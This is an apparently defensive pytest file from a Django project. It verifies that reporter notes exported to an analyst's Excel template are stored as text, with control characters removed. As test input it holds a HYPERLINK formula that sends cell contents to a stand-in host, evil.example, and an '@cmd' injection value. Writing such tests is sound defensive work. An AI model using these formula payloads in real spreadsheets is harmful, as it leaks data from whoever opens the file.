"""A reporter's note reaches the analyst's Excel template as text, never as a formula (issue #13, defect 2)."""

from __future__ import annotations

import io

import openpyxl
import pytest

from meili.progress import excel
from meili.progress.models import IndicatorValue, ValueState
from meili.progress.values import assigned_indicators

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


def test_note_with_a_formula_is_written_as_text(plan, org):
    code = assigned_indicators(plan, org["huancui"])[0].code
    IndicatorValue.objects.create(
        plan_code=plan.code,
        indicator_code=code,
        unit=org["huancui"],
        year=2025,
        note=EVIL + "\x10",
        source_document="@cmd",
        state=ValueState.DRAFT,
    )
    sheet = openpyxl.load_workbook(io.BytesIO(excel.template(plan, org["huancui"], 2025)))[excel.SHEET]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == code)
    note = next(c for c in row if c.value and "HYPERLINK" in str(c.value))
    assert note.data_type == "s" and note.value == EVIL  # text, and the control character is gone
